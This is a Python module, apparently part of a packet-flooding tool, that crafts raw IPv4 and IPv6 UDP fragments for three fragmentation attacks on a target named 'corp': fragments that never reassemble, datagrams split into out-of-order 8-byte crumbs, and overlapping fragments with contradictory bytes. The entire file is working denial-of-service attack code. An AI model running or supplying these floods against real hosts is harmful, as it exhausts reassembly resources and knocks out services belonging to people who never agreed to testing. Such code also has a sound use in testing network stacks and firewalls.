"""Fragment bombs, of both IP versions in turn."""

from __future__ import annotations

import struct

from .attack import Attack
from .floods import ECHO, Flood
from .raw import FRAGMENT, UDP, ip, udp

MORE = 0x2000


class Pieces(Flood):
    """Fragments of UDP datagrams to corp."""

    def piece(self, version: int, identification: int, offset: int, data: bytes, *, more: bool) -> bytes:
        """One fragment; `offset` in bytes, a multiple of 8."""
        own, corp = self.own(version), self.corp(version)
        if version == 4:
            field = offset // 8 | (MORE if more else 0)
            return ip(own, corp, UDP, data, identification=identification & 0xFFFF, fragment=field)
        header = struct.pack("!BBHI", UDP, 0, offset | more, identification & 0xFFFFFFFF)
        return ip(own, corp, FRAGMENT, header + data)


class NeverWhole(Pieces):
    name = "fragments-never-whole"
    what = "first or later fragments of ever new datagrams that never become whole"

    def packet(self, number: int) -> bytes:
        version = 4 if number % 2 else 6
        at, size = ((0, 1400), (0, 8), (1400, 1400), (8, 8), (60_000, 1400))[number // 2 % 5]
        return self.piece(version, number, at, bytes(size), more=True)


class Tiny(Pieces):
    name = "fragments-tiny"
    what = "datagrams in crumbs of eight bytes, out of order, all but the last of them"

    def packet(self, number: int) -> bytes:
        version = 4 if number % 2 else 6
        step = number // 2
        at = step % 4000 * 2657 % 8000  # a permutation of the even and odd crumbs
        return self.piece(version, step // 4000, 8 * at, bytes(8), more=True)


class Overlapping(Pieces):
    name = "fragments-overlapping"
    what = "datagrams whose fragments overlap, contradict each other's bytes or their end"

    def packet(self, number: int) -> bytes:
        version = 4 if number % 2 else 6
        own, corp = self.own(version), self.corp(version)
        whole = udp(own, corp, (4000, ECHO), bytes(64))
        shapes = ((0, whole[:32], True), (24, b"x" * 8, True), (40, whole[40:], False), (40, b"y" * 32, False))
        step = number // 2
        at, data, more = shapes[step % 4]
        return self.piece(version, step // 4, at, data, more=more)


PIECES: list[type[Attack]] = [NeverWhole, Tiny, Overlapping]
